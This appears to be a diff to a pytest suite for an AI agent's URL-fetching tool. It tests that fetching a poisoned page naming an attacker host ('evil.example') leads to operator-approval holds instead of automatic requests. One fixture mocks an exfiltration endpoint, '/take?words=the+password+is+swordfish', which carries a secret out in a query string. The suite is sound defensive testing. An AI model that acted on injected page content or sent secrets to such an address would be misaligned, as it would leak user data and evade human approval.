@@ -167,7 +167,8 @@ async def test_X8_a_run_that_has_nobody_to_ask_is_told_what_would_allow_it(
     async with site() as at:
         evil = EVIL.format(port=at.port)
         at.answers["/"] = answer(POISON.format(url=evil).encode())
-        async with web(tmp_path, at) as w:
+        gone = {"approvers": ["gone:anna"]}
+        async with web(tmp_path, at, approvals=gone) as w:
             done = await w.turn(f"FETCH {at.url('/')}", kind=kind)
             assert isinstance(done, Done)
             said = done.replies[0].text
@@ -177,6 +178,35 @@ async def test_X8_a_run_that_has_nobody_to_ask_is_told_what_would_allow_it(
         async with web(tmp_path, at, trust={"hosts": ["evil.example"]}) as w:  # the line it named
             await w.turn(f"FETCH {at.url('/')}", kind=kind)
             assert hosts_asked(at)[-1] == "evil.example"
+
+
+@pytest.mark.parametrize("kind", ["delivery", "firing"])
+async def test_X8_a_run_of_nobody_asks_the_operator(tmp_path: Path, kind: str) -> None:
+    async with site() as at, web(tmp_path, at) as w:
+        evil = EVIL.format(port=at.port)
+        at.answers["/"] = answer(POISON.format(url=evil).encode())
+        parked = await w.turn(f"FETCH {at.url('/')}", kind=kind)
+        assert isinstance(parked, Parked)
+        assert evil in parked.waits[0].title
+        assert hosts_asked(at) == ["site.example"]
+
+
+@pytest.mark.parametrize("rule", ["never", "once"])
+async def test_X8_no_rule_and_no_earlier_yes_opens_an_address(tmp_path: Path, rule: str) -> None:
+    def say(messages: Sequence[BaseMessage]) -> AIMessage:
+        done, url = results(messages), EVIL.format(port=at.port)
+        return AIMessage(done["f"]) if done else calls(call("fetch_url", "f", url=url))
+
+    rules = {"tools": {"fetch_url": rule}}
+    async with site() as at, web(tmp_path, at, say, approvals=rules) as w:
+        at.answers["/take?words=the+password+is+swordfish"] = answer(b"harmless")
+        for text in ("go", "again"):
+            parked = await w.turn(text, untrusted=True)
+            assert isinstance(parked, Parked)
+            (wait,) = parked.waits
+            assert EVIL.format(port=at.port) in wait.title and not wait.grants
+            await w.decide(wait.id, "approve", digest=wait.digest)
+            assert "harmless" in (await w.work()).replies[0].text
 
 
 async def test_a_redirect_does_not_leave_the_hosts_of_the_settings(tmp_path: Path) -> None:
